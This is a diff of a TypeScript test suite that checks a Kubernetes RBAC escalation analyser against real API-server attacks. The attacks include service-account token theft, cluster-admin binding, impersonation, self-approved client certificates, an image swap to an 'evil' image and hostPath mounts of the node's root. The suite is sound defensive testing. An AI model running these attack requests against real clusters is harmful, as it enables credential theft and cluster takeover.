@@ -1,10 +1,20 @@
+import { execFileSync } from 'node:child_process';
 import { setTimeout as delay } from 'node:timers/promises';
 import { escalationOf } from '../../../src/rbac';
+import { RIGHTS } from '../../../src/rbac/rights';
 import type { Manifest } from '../../../src/manifest/manifest';
-import { type ApiServer, create, describeWithApiServer, type Response, serverMinor } from '../harness';
+import {
+  type ApiServer,
+  create,
+  describeWithApiServer,
+  type RequestOptions,
+  type Response,
+  serverMinor,
+} from '../harness';
 
 const RBAC = 'rbac.authorization.k8s.io';
-const hasController = (serverMinor() ?? 37) >= 37;
+const minor = serverMinor() ?? 37;
+const hasController = minor >= 37;
 
 /** `VERBS RESOURCES[.GROUP] [NAMES]` */
 type Rights = string;
@@ -18,18 +28,37 @@ interface Attack {
   readonly repaired?: readonly Rights[];
   readonly clusterWide?: boolean;
   readonly method: string;
-  /** `NS` stands for the namespace of the attack. */
+  /** `{NS}` stands for the namespace of the attack. */
   readonly path: string;
-  readonly body?: object;
+  readonly body?: object | (() => object);
   readonly headers?: Record<string, string>;
-  /** Whether a kubelet, or a kind that is not installed, would have to answer what the authorizer lets through. */
-  readonly unanswered?: boolean;
+  /** What a kubelet would have to do, so that nothing but the authorizer can be asked. @default the API server does it all */
+  readonly unanswered?: string;
+  /** What the attacker makes of it. @default the first request is the attack */
+  readonly then?: (attacker: Attacker, first: Response) => Promise<Response>;
+  /** Whether the right only counts together with others, and leads nowhere by its own name. */
+  readonly isLever?: boolean;
+  /** A certificate that somebody else has asked for. @default none */
+  readonly asks?: () => object;
+  /** Whether Pod Security refuses privileged pods in the namespace before the attack. */
+  readonly isSecured?: boolean;
+  /** A path of what has to be deleted after the attack, since it would make up for what the repair takes away. */
+  readonly leaves?: string;
+  /** Minor version of the first API server that knows the right. */
+  readonly since?: number;
 }
 
-const CORE = '/api/v1/namespaces/NS';
-const ROLES = `/apis/${RBAC}/v1/namespaces/NS`;
+type Ask = (method: string, path: string, body?: object, options?: RequestOptions) => Promise<Response>;
+
+interface Attacker {
+  readonly ask: Ask;
+  /** The administrator, who sees what came of it. */
+  readonly admin: Ask;
+}
+
+const CORE = '/api/v1/namespaces/{NS}';
+const ROLES = `/apis/${RBAC}/v1/namespaces/{NS}`;
 const DRY = '?dryRun=All';
-const merge = { 'content-type': 'application/merge-patch+json' };
 const container = { name: 'main', image: 'registry.example/app:1.0.0' };
 const template = {
   metadata: { labels: { app: 'x' } },
@@ -42,19 +71,102 @@ const object = (apiVersion: string, kind: string, rest: object = {}) => ({
   ...rest,
 });
 const hook = { webhooks: [] };
+const strategic = { 'content-type': 'application/strategic-merge-patch+json' };
+const privileged = object('v1', 'Pod', {
+  metadata: { name: 'privileged' },
+  spec: { containers: [{ ...container, securityContext: { privileged: true } }] },
+});
+const CONSTRAINED = 36;
+const CSRS = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
+const CLIENT_SIGNER = 'kubernetes.io/kube-apiserver-client';
+
+function certificateRequest(): object {
+  const args =
+    'req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /dev/null -subj /CN=powerful';
+  const request = execFileSync('openssl', args.split(' '), { stdio: ['ignore', 'pipe', 'ignore'] });
+  return object('certificates.k8s.io/v1', 'CertificateSigningRequest', {
+    metadata: { name: '{NS}' },
+    spec: {
+      request: request.toString('base64'),
+      signerName: CLIENT_SIGNER,
+      usages: ['digital signature', 'client auth'],
+    },
+  });
+}
+
+/** Only the victim and those it lends its name to list the Secrets of the namespace. */
+async function secretsBy(ask: Ask, token: string): Promise<Response> {
+  return ask('GET', `${CORE}/secrets`, undefined, { headers: { authorization: `Bearer ${token}` } });
+}
+
+/** The controller writes the token, so that without one the Secret is as far as it goes. */
+async function tokenOfSecret({ ask }: Attacker, first: Response): Promise<Response> {
+  if (!hasController) return first;
+  const filled = await until(
+    () => ask('GET', `${CORE}/secrets/made`),
+    ({ body }) => body.data?.token,
+  );
+  return secretsBy(ask, Buffer.from(filled.body.data.token, 'base64').toString());
+}
+
+async function approvalOf({ ask, admin }: Attacker): Promise<Response> {
+  const conditions = [{ type: 'Approved', status: 'True', reason: 'Attack' }];
+  const approved = await ask('PATCH', `${CSRS}/{NS}/approval`, { status: { conditions } });
+  if (approved.status !== 200) return approved;
+  const seen = await admin('GET', `${CSRS}/{NS}`);
+  const isApproved = seen.body.status.conditions?.[0]?.type === 'Approved';
+  return { ...seen, status: isApproved ? seen.status : 500 };
+}
+
+/** A folder of the node in a pod that Pod Security takes for a harmless one. */
+async function mountedVolume({ ask, admin }: Attacker): Promise<Response> {
+  const claimed = await ask(
+    'POST',
+    `${CORE}/persistentvolumeclaims`,
+    object('v1', 'PersistentVolumeClaim', {
+      spec: {
+        accessModes: ['ReadWriteOnce'],
+        resources: { requests: { storage: '1Gi' } },
+        storageClassName: '',
+        volumeName: '{NS}',
+      },
+    }),
+  );
+  if (claimed.status !== 201) return claimed;
+  if (hasController) {
+    await until(
+      () => admin('GET', `${CORE}/persistentvolumeclaims/made`),
+      ({ body }) => body.status.phase === 'Bound',
+    );
+  }
+  return ask('POST', `${CORE}/pods`, object('v1', 'Pod', { spec: mounting }));
+}
+
+const mounting = {
+  securityContext: { runAsNonRoot: true, runAsUser: 1000, seccompProfile: { type: 'RuntimeDefault' } },
+  containers: [
+    {
+      ...container,
+      securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
+      volumeMounts: [{ name: 'node', mountPath: '/node' }],
+    },
+  ],
+  volumes: [{ name: 'node', persistentVolumeClaim: { claimName: 'made' } }],
+};
 
 const ATTACKS: readonly Attack[] = [
   { right: 'everything', rights: ['* *.*'], clusterWide: true, method: 'GET', path: '/api/v1/secrets' },
   { right: 'read-secrets', rights: ['list secrets'], method: 'GET', path: `${CORE}/secrets` },
   {
     right: 'create-secrets',
-    rights: ['create secrets'],
+    rights: ['create,get secrets'],
     method: 'POST',
-    path: `${CORE}/secrets${DRY}`,
+    path: `${CORE}/secrets`,
     body: object('v1', 'Secret', {
       type: 'kubernetes.io/service-account-token',
       metadata: { name: 'made', annotations: { 'kubernetes.io/service-account.name': 'victim' } },
     }),
+    then: tokenOfSecret,
   },
   {
     right: 'request-tokens',
@@ -62,6 +174,7 @@ const ATTACKS: readonly Attack[] = [
     method: 'POST',
     path: `${CORE}/serviceaccounts/victim/token`,
     body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
+    then: ({ ask }, { body }) => secretsBy(ask, body.status.token),
   },
   {
     right: 'create-workloads',
@@ -74,29 +187,38 @@ const ATTACKS: readonly Attack[] = [
     right: 'write-workloads',
     rights: ['create deployments.apps'],
     method: 'POST',
-    path: `/apis/apps/v1/namespaces/NS/deployments${DRY}`,
+    path: '/apis/apps/v1/namespaces/{NS}/deployments',
     body: object('apps/v1', 'Deployment', { spec: { selector: { matchLabels: { app: 'x' } }, template } }),
+    then: async ({ admin }, first) => {
+      if (!hasController) return first;
+      const pods = await until(
+        () => admin('GET', `${CORE}/pods?labelSelector=app%3Dx`),
+        ({ body }) => body.items.length > 0,
+      );
+      return { ...pods, status: pods.body.items[0]?.spec.serviceAccountName === 'victim' ? 200 : 500 };
+    },
   },
   {
     right: 'change-pods',
     rights: ['patch pods'],
     method: 'PATCH',
     path: `${CORE}/pods/victim`,
-    body: { metadata: { labels: { seen: 'yes' } } },
+    headers: strategic,
+    body: { spec: { containers: [{ name: 'main', image: 'registry.example/evil:1.0.0' }] } },
   },
   {
     right: 'run-commands',
     rights: ['create pods/exec'],
     method: 'POST',
     path: `${CORE}/pods/victim/exec?command=id`,
-    unanswered: true,
+    unanswered: 'The kubelet of the node runs the command.',
   },
   {
     right: 'add-containers',
     rights: ['patch pods/ephemeralcontainers'],
     method: 'PATCH',
     path: `${CORE}/pods/victim/ephemeralcontainers${DRY}`,
-    headers: { 'content-type': 'application/strategic-merge-patch+json' },
+    headers: strategic,
     body: { spec: { ephemeralContainers: [{ name: 'debug', image: 'registry.example/debug:1.0.0' }] } },
   },
   {
@@ -104,7 +226,7 @@ const ATTACKS: readonly Attack[] = [
     rights: ['create pods/portforward'],
     method: 'POST',
     path: `${CORE}/pods/victim/portforward`,
-    unanswered: true,
+    unanswered: 'The kubelet of the node holds the other end of the connection.',
   },
   {
     right: 'node-proxy',
@@ -112,26 +234,30 @@ const ATTACKS: readonly Attack[] = [
     clusterWide: true,
     method: 'GET',
     path: '/api/v1/nodes/none/proxy/pods',
-    unanswered: true,
+    unanswered:
+      'The kubelet of the node answers; the API server passes the request on, to no address of this machine.',
   },
   {
     right: 'escalate-roles',
     rights: [`patch,escalate roles.${RBAC}`],
     repaired: [`patch roles.${RBAC}`],
     method: 'PATCH',
-    path: `${ROLES}/roles/plain${DRY}`,
+    path: `${ROLES}/roles/{NS}`,
     body: { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] },
+    then: ({ ask }) => heard(() => ask('GET', `${CORE}/secrets`)),
   },
   {
     right: 'bind-roles',
     rights: [`create rolebindings.${RBAC}`, `bind clusterroles.${RBAC}`],
     repaired: [`create rolebindings.${RBAC}`],
     method: 'POST',
-    path: `${ROLES}/rolebindings${DRY}`,
+    path: `${ROLES}/rolebindings`,
     body: object(`${RBAC}/v1`, 'RoleBinding', {
       roleRef: { apiGroup: RBAC, kind: 'ClusterRole', name: 'cluster-admin' },
-      subjects: [{ kind: 'User', name: 'me', apiGroup: RBAC }],
+      subjects: [{ kind: 'ServiceAccount', name: 'attacker', namespace: '{NS}' }],
     }),
+    then: ({ ask }) => heard(() => ask('GET', `${CORE}/secrets`)),
+    leaves: `${ROLES}/rolebindings/made`,
   },
   {
     right: 'write-roles',
@@ -144,11 +270,13 @@ const ATTACKS: readonly Attack[] = [
     right: 'write-bindings',
     rights: [`create rolebindings.${RBAC}`, 'get configmaps'],
     method: 'POST',
-    path: `${ROLES}/rolebindings${DRY}`,
+    path: `${ROLES}/rolebindings`,
     body: object(`${RBAC}/v1`, 'RoleBinding', {
       roleRef: { apiGroup: RBAC, kind: 'Role', name: 'plain' },
       subjects: [{ kind: 'User', name: 'friend', apiGroup: RBAC }],
     }),
+    then: ({ admin }) =>
+      heard(() => admin('GET', `${CORE}/configmaps/settings`, undefined, { as: 'friend' })),
   },
   {
     right: 'impersonate-users',
@@ -172,25 +300,116 @@ const ATTACKS: readonly Attack[] = [
     rights: ['impersonate serviceaccounts'],
     method: 'GET',
     path: `${CORE}/secrets`,
-    headers: { 'impersonate-user': 'system:serviceaccount:NS:victim' },
+    headers: { 'impersonate-user': 'system:serviceaccount:{NS}:victim' },
+  },
+  {
+    right: 'impersonate-extra',
+    rights: ['impersonate users', 'impersonate uids,userextras/scopes.authentication.k8s.io'],
+    repaired: ['impersonate users'],
+    isLever: true,
+    clusterWide: true,
+    method: 'GET',
+    path: `${CORE}/secrets`,
+    headers: {
+      'impersonate-user': 'powerful',
+      'impersonate-uid': '1',
+      'impersonate-extra-scopes': 'everything',
+    },
+  },
+  {
+    right: 'impersonate-users-for',
+    rights: ['impersonate:user-info users.authentication.k8s.io', 'impersonate-on:user-info:list secrets'],
+    repaired: ['impersonate-on:user-info:list secrets'],
+    since: CONSTRAINED,
+    clusterWide: true,
+    method: 'GET',
+    path: `${CORE}/secrets`,
+    headers: { 'impersonate-user': 'powerful' },
+  },
+  {
+    right: 'impersonate-groups-for',
+    rights: [
+      'impersonate:user-info users,groups.authentication.k8s.io',
+      'impersonate-on:user-info:list secrets',
+    ],
+    repaired: ['impersonate:user-info users.authentication.k8s.io', 'impersonate-on:user-info:list secrets'],
+    since: CONSTRAINED,
+    clusterWide: true,
+    method: 'GET',
+    path: `${CORE}/secrets`,
+    headers: { 'impersonate-user': 'nobody', 'impersonate-group': 'powerful' },
+  },
+  {
+    right: 'impersonate-accounts-for',
+    rights: [
+      'impersonate:serviceaccount serviceaccounts.authentication.k8s.io',
+      'impersonate-on:serviceaccount:list secrets',
+    ],
+    repaired: ['impersonate-on:serviceaccount:list secrets'],
+    since: CONSTRAINED,
+    method: 'GET',
+    path: `${CORE}/secrets`,
+    headers: { 'impersonate-user': 'system:serviceaccount:{NS}:victim' },
+  },
+  {
+    right: 'impersonate-nodes-for',
+    rights: [
+      'impersonate:arbitrary-node nodes.authentication.k8s.io',
+      'impersonate-on:arbitrary-node:get secrets',
+    ],
+    repaired: ['impersonate-on:arbitrary-node:get secrets'],
+    since: CONSTRAINED,
+    clusterWide: true,
+    method: 'GET',
+    // The Secret of the victim's pod, which the node of the pod may get.
+    path: `${CORE}/secrets/mounted`,
+    headers: { 'impersonate-user': 'system:node:{NS}' },
+  },
+  {
+    right: 'act-for-others',
+    rights: ['impersonate:user-info users.authentication.k8s.io', 'impersonate-on:user-info:list secrets'],
+    repaired: ['impersonate:user-info users.authentication.k8s.io'],
+    isLever: true,
+    since: CONSTRAINED,
+    clusterWide: true,
+    method: 'GET',
+    path: `${CORE}/secrets`,
+    headers: { 'impersonate-user': 'powerful' },
   },
   {
     right: 'create-certificate-requests',
     rights: ['create certificatesigningrequests.certificates.k8s.io'],
     clusterWide: true,
     method: 'POST',
-    path: `/apis/certificates.k8s.io/v1/certificatesigningrequests${DRY}`,
-    body: object('certificates.k8s.io/v1', 'CertificateSigningRequest', { spec: {} }),
-    unanswered: true,
+    path: CSRS,
+    body: certificateRequest,
   },
   {
     right: 'approve-certificates',
-    rights: ['update certificatesigningrequests/approval.certificates.k8s.io'],
+    rights: [
+      'create certificatesigningrequests.certificates.k8s.io',
+      'patch certificatesigningrequests/approval.certificates.k8s.io',
+      `approve signers.certificates.k8s.io ${CLIENT_SIGNER}`,
+    ],
     clusterWide: true,
-    method: 'PUT',
-    path: '/apis/certificates.k8s.io/v1/certificatesigningrequests/none/approval',
-    body: object('certificates.k8s.io/v1', 'CertificateSigningRequest'),
-    unanswered: true,
+    method: 'POST',
+    path: CSRS,
+    body: certificateRequest,
+    then: approvalOf,
+  },
+  {
+    right: 'approve-for-signers',
+    rights: [
+      'patch certificatesigningrequests/approval.certificates.k8s.io',
+      `approve signers.certificates.k8s.io ${CLIENT_SIGNER}`,
+    ],
+    repaired: ['patch certificatesigningrequests/approval.certificates.k8s.io'],
+    isLever: true,
+    asks: certificateRequest,
+    clusterWide: true,
+    method: 'PATCH',
+    path: `${CSRS}/{NS}/approval`,
+    body: { status: { conditions: [{ type: 'Approved', status: 'True', reason: 'Attack' }] } },
   },
   {
     right: 'change-objects-in-flight',
@@ -244,26 +463,31 @@ const ATTACKS: readonly Attack[] = [
   },
   {
     right: 'change-namespaces',
-    rights: ['patch namespaces'],
+    rights: ['patch namespaces', 'create pods'],
+    isSecured: true,
     method: 'PATCH',
     path: CORE,
     body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } },
+    then: ({ ask }) => heard(() => ask('POST', `${CORE}/pods`, privileged)),
   },
   {
     right: 'create-persistent-volumes',
-    rights: ['create persistentvolumes'],
+    rights: ['create persistentvolumes,persistentvolumeclaims,pods'],
+    isSecured: true,
     clusterWide: true,
     method: 'POST',
-    path: `/api/v1/persistentvolumes${DRY}`,
+    path: '/api/v1/persistentvolumes',
     body: object('v1', 'PersistentVolume', {
-      spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/etc' } },
+      metadata: { name: '{NS}' },
+      spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
     }),
+    then: mountedVolume,
   },
   {
     right: 'write-network-policies',
     rights: ['create networkpolicies.networking.k8s.io'],
     method: 'POST',
-    path: `/apis/networking.k8s.io/v1/namespaces/NS/networkpolicies${DRY}`,
+    path: `/apis/networking.k8s.io/v1/namespaces/{NS}/networkpolicies${DRY}`,
     body: object('networking.k8s.io/v1', 'NetworkPolicy', {
       spec: { podSelector: {}, ingress: [{}], egress: [{}], policyTypes: ['Ingress', 'Egress'] },
     }),
@@ -274,8 +498,7 @@ const ATTACKS: readonly Attack[] = [
     clusterWide: true,
     method: 'POST',
     path: '/apis/policy.networking.k8s.io/v1alpha2/clusternetworkpolicies',
-    body: {},
-    unanswered: true,
+    body: object('policy.networking.k8s.io/v1alpha2', 'ClusterNetworkPolicy'),
   },
   {
     right: 'write-quotas',
@@ -295,15 +518,14 @@ const ATTACKS: readonly Attack[] = [
     right: 'write-gateways',
     rights: ['create gateways.gateway.networking.k8s.io'],
     method: 'POST',
-    path: '/apis/gateway.networking.k8s.io/v1/namespaces/NS/gateways',
-    body: {},
-    unanswered: true,
+    path: '/apis/gateway.networking.k8s.io/v1/namespaces/{NS}/gateways',
+    body: object('gateway.networking.k8s.io/v1', 'Gateway'),
   },
   {
     right: 'write-endpoints',
     rights: ['create endpointslices.discovery.k8s.io'],
     method: 'POST',
-    path: `/apis/discovery.k8s.io/v1/namespaces/NS/endpointslices${DRY}`,
+    path: `/apis/discovery.k8s.io/v1/namespaces/{NS}/endpointslices${DRY}`,
     body: object('discovery.k8s.io/v1', 'EndpointSlice', {
       addressType: 'IPv4',
       endpoints: [{ addresses: ['10.1.2.3'] }],
@@ -376,6 +598,46 @@ const ATTACKS: readonly Attack[] = [
   },
 ];
 
+/** Kinds that a cluster has only where they were installed. */
+const INSTALLED = [
+  definition('gateway.networking.k8s.io', 'v1', 'Gateway', 'gateways', 'Namespaced'),
+  definition(
+    'policy.networking.k8s.io',
+    'v1alpha2',
+    'ClusterNetworkPolicy',
+    'clusternetworkpolicies',
+    'Cluster',
+  ),
+];
+
+function definition(...[group, version, kind, plural, scope]: [string, string, string, string, string]): any {
+  const openAPIV3Schema = { type: 'object', 'x-kubernetes-preserve-unknown-fields': true };
+  return {
+    apiVersion: 'apiextensions.k8s.io/v1',
+    kind: 'CustomResourceDefinition',
+    metadata: {
+      name: `${plural}.${group}`,
+      annotations: { 'api-approved.kubernetes.io': 'unapproved, a test' },
+    },
+    spec: {
+      group,
+      scope,
+      names: { kind, plural, singular: kind.toLowerCase(), listKind: `${kind}List` },
+      versions: [{ name: version, served: true, storage: true, schema: { openAPIV3Schema } }],
+    },
+  };
+}
+
+async function install(server: ApiServer, crd: any): Promise<void> {
+  await must(server, crd);
+  const { group, names, versions } = crd.spec;
+  const served = await until(
+    () => server.request('GET', `/apis/${group}/${versions[0].name}/${names.plural}`),
+    ({ status }) => status === 200,
+  );
+  if (served.status !== 200) throw new Error(`${crd.metadata.name} is not served`);
+}
+
 function ruleOf(rights: Rights): object {
   const [verbs = '', what = '', names] = rights.split(' ');
   const [, resources = '', group = ''] = /^([^.]+)\.?(.*)$/.exec(what)!;
@@ -412,13 +674,28 @@ function namespaceOf(right: string): string {
 
 /** Whether the engine says that the attacker has the right, or got further by it. */
 function isNamed(attack: Attack, rights: readonly Rights[]): boolean {
-  const { pathsFrom } = escalationOf(granted(attack, rights), { defaults: false });
+  const manifests = [...neighbourhood(namespaceOf(attack.right)), ...granted(attack, rights)];
+  const { pathsFrom } = escalationOf(manifests, { defaults: false });
   const paths = pathsFrom({ kind: 'ServiceAccount', namespace: namespaceOf(attack.right), name: 'attacker' });
   const gains = paths.flatMap(({ steps }) => steps);
   // An impersonation, and roles that are escalated or bound, count when they lead somewhere.
-  const isCombined = attack.repaired !== undefined;
+  const isCombined = attack.repaired !== undefined && !attack.isLever;
   return gains.some(({ right, power }) => right === attack.right && !(isCombined && power.kind === 'right'));
 }
+
+const KNOWN = ATTACKS.filter(({ since = 0 }) => minor >= since);
+
+describe('the attacks on a real API server', () => {
+  it('are one for each right that leads further', () => {
+    expect(ATTACKS.map(({ right }) => right).sort()).toEqual(RIGHTS.map(({ id }) => id).sort());
+  });
+
+  it('go as far as the authorizer only where a kubelet would have to answer', () => {
+    const unanswered = ATTACKS.filter((attack) => attack.unanswered !== undefined);
+    expect(unanswered.map(({ right }) => right)).toEqual(['run-commands', 'open-tunnels', 'node-proxy']);
+    for (const { unanswered: reason } of unanswered) expect(reason).toContain('kubelet');
+  });
+});
 
 describeWithApiServer(
   'an attack by a right that leads further',
@@ -435,17 +712,12 @@ describeWithApiServer(
         server(),
         object('coordination.k8s.io/v1', 'Lease', { metadata: { name: 'leader', namespace: 'kube-system' } }),
       );
+      await Promise.all(INSTALLED.map((crd) => install(server(), crd)));
       await Promise.all(
-        ATTACKS.map(async (attack) => {
+        KNOWN.map(async (attack) => {
           const token = await prepare(server(), attack);
-          before.set(
-            attack.right,
-            await until(
-              () => strike(server(), attack, token),
-              ({ status }) => status !== 403,
-            ),
-          );
-          await replaceRules(server(), attack);
+          before.set(attack.right, await heard(() => strike(server(), attack, token)));
+          await repair(server(), attack);
           after.set(
             attack.right,
             await until(
@@ -457,11 +729,12 @@ describeWithApiServer(
       );
     }, 180_000);
 
-    it.each(ATTACKS.map((attack) => [attack.right, attack] as const))(
+    it.each(KNOWN.map((attack) => [attack.right, attack] as const))(
       '%s succeeds before the repair and is refused after it, and the engine says both',
       (right, attack) => {
         const { status, body } = before.get(right)!;
-        const reached = attack.unanswered ? status !== 403 && status !== 401 : status >= 200 && status < 300;
+        const reached =
+          attack.unanswered !== undefined ? status !== 403 && status !== 401 : status >= 200 && status < 300;
         expect(reached ? 'reached' : JSON.stringify(body)).toBe('reached');
         expect(after.get(right)!.status).toBe(403);
         expect({
@@ -480,56 +753,92 @@ describeWithApiServer(
 /** Makes the namespace with a victim and an attacker, and gives the attacker's token. */
 async function prepare(server: ApiServer, attack: Attack): Promise<string> {
   const name = namespaceOf(attack.right);
-  const inside = (apiVersion: string, kind: string, objectName: string, rest: object = {}) =>
-    must(server, { apiVersion, kind, metadata: { name: objectName, namespace: name }, ...rest });
   await must(server, { apiVersion: 'v1', kind: 'Namespace', metadata: { name } });
-  await inside('v1', 'ServiceAccount', 'attacker');
-  await inside('v1', 'ServiceAccount', 'victim');
-  await inside('v1', 'Pod', 'victim', { spec: { serviceAccountName: 'victim', containers: [container] } });
-  await inside('v1', 'Service', 'victim', { spec: { type: 'LoadBalancer', ports: [{ port: 80 }] } });
-  await inside(`${RBAC}/v1`, 'Role', 'plain', { rules: [ruleOf('get configmaps')] });
-  await inside(`${RBAC}/v1`, 'Role', 'powerful', { rules: [ruleOf('list secrets')] });
-  await inside(`${RBAC}/v1`, 'RoleBinding', 'powerful', {
-    roleRef: { apiGroup: RBAC, kind: 'Role', name: 'powerful' },
-    subjects: [
-      { kind: 'ServiceAccount', name: 'victim', namespace: name },
-      { kind: 'User', name: 'powerful', apiGroup: RBAC },
-    ],
-  });
+  for (const manifest of neighbourhood(name)) await must(server, manifest);
+  const admin = asking(server, attack);
+  if (attack.asks) await succeed(admin('POST', CSRS, attack.asks()));
+  if (attack.isSecured) await secure(admin);
   for (const manifest of granted(attack, attack.rights)) await must(server, manifest);
-  const path = `/api/v1/namespaces/${name}/serviceaccounts/attacker/token`;
   const request = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} };
-  return (await server.request('POST', path, request)).body.status.token;
+  return (await admin('POST', `${CORE}/serviceaccounts/attacker/token`, request)).body.status.token;
 }
 
-async function replaceRules(server: ApiServer, attack: Attack): Promise<void> {
-  const [role] = granted(attack, attack.repaired ?? []);
-  const place = attack.clusterWide ? 'clusterroles' : `namespaces/${namespaceOf(attack.right)}/roles`;
-  const { status, body } = await server.request(
-    'PUT',
-    `/apis/${RBAC}/v1/${place}/${role!.metadata!.name}`,
-    role,
+function neighbourhood(namespace: string): Manifest[] {
+  const inside = (apiVersion: string, kind: string, name: string, rest: object = {}) => ({
+    apiVersion,
+    kind,
+    metadata: { name, namespace },
+    ...rest,
+  });
+  const volumes = [{ name: 'secret', secret: { secretName: 'mounted' } }];
+  return [
+    inside('v1', 'ServiceAccount', 'attacker'),
+    inside('v1', 'ServiceAccount', 'victim'),
+    inside('v1', 'Secret', 'mounted'),
+    inside('v1', 'ConfigMap', 'settings'),
+    inside('v1', 'Pod', 'victim', {
+      spec: { nodeName: namespace, serviceAccountName: 'victim', containers: [container], volumes },
+    }),
+    inside('v1', 'Service', 'victim', { spec: { type: 'LoadBalancer', ports: [{ port: 80 }] } }),
+    inside(`${RBAC}/v1`, 'Role', 'plain', { rules: [ruleOf('get configmaps')] }),
+    inside(`${RBAC}/v1`, 'Role', 'powerful', { rules: [ruleOf('list secrets')] }),
+    inside(`${RBAC}/v1`, 'RoleBinding', 'powerful', {
+      roleRef: { apiGroup: RBAC, kind: 'Role', name: 'powerful' },
+      subjects: [
+        { kind: 'ServiceAccount', name: 'victim', namespace },
+        { kind: 'User', name: 'powerful', apiGroup: RBAC },
+        { kind: 'Group', name: 'powerful', apiGroup: RBAC },
+      ],
+    }),
+  ];
+}
+
+/** Has Pod Security refuse privileged pods, even those of the administrator. */
+async function secure(admin: Ask): Promise<void> {
+  await succeed(
+    admin('PATCH', CORE, { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } } }),
   );
-  if (status !== 200) throw new Error(body.message);
+  const { status } = await until(
+    () => admin('POST', `${CORE}/pods${DRY}`, privileged),
+    (response) => response.status === 403,
+  );
+  if (status !== 403) throw new Error('Pod Security lets a privileged pod into a restricted namespace');
+}
+
+async function repair(server: ApiServer, attack: Attack): Promise<void> {
+  const admin = asking(server, attack);
+  const [role] = granted(attack, attack.repaired ?? []);
+  const place = attack.clusterWide ? 'clusterroles' : 'namespaces/{NS}/roles';
+  await succeed(admin('PUT', `/apis/${RBAC}/v1/${place}/${role!.metadata!.name}`, role));
+  if (attack.leaves) await succeed(admin('DELETE', attack.leaves));
+}
+
+/** Asks as the holder of a token, or as the administrator, with `{NS}` filled in. */
+function asking(server: ApiServer, { right }: Attack, token?: string): Ask {
+  const fill = <T>(value: T): T =>
+    value === undefined ? value : JSON.parse(JSON.stringify(value).replaceAll('{NS}', namespaceOf(right)));
+  const own: Record<string, string> = token === undefined ? {} : { authorization: `Bearer ${token}` };
+  return (method, path, body, { headers, ...options } = {}) =>
+    server.request(method, fill(path), fill(body), { ...options, headers: { ...own, ...fill(headers) } });
 }
 
 /** The attack, as the attacker. */
 async function strike(server: ApiServer, attack: Attack, token: string): Promise<Response> {
-  const fill = (text: string) => text.replaceAll('NS', namespaceOf(attack.right));
-  const headers = Object.entries(attack.headers ?? {}).map(([name, value]) => [name, fill(value)]);
-  return server.request(attack.method, fill(attack.path), attack.body, {
-    headers: {
-      ...(attack.method === 'PATCH' && merge),
-      ...Object.fromEntries(headers),
-      authorization: `Bearer ${token}`,
-    },
-  });
+  const ask = asking(server, attack, token);
+  const body = typeof attack.body === 'function' ? attack.body() : attack.body;
+  const first = await ask(attack.method, attack.path, body, { headers: attack.headers });
+  const isThrough = first.status >= 200 && first.status < 300;
+  return attack.then && isThrough ? attack.then({ ask, admin: asking(server, attack) }, first) : first;
 }
 
-/** The authorizer takes a moment to hear of a change. */
+/** The authorizer and admission take a moment to hear of a change. */
+async function heard(ask: () => Promise<Response>): Promise<Response> {
+  return until(ask, ({ status }) => status !== 403);
+}
+
 async function until(
   ask: () => Promise<Response>,
-  holds: (response: Response) => boolean,
+  holds: (response: Response) => unknown,
 ): Promise<Response> {
   const deadline = Date.now() + 15_000;
   let response = await ask();
@@ -538,6 +847,11 @@ async function until(
     response = await ask();
   }
   return response;
+}
+
+async function succeed(answer: Promise<Response>): Promise<void> {
+  const { status, body } = await answer;
+  if (status >= 300) throw new Error(body.message);
 }
 
 async function must(server: ApiServer, manifest: object): Promise<void> {
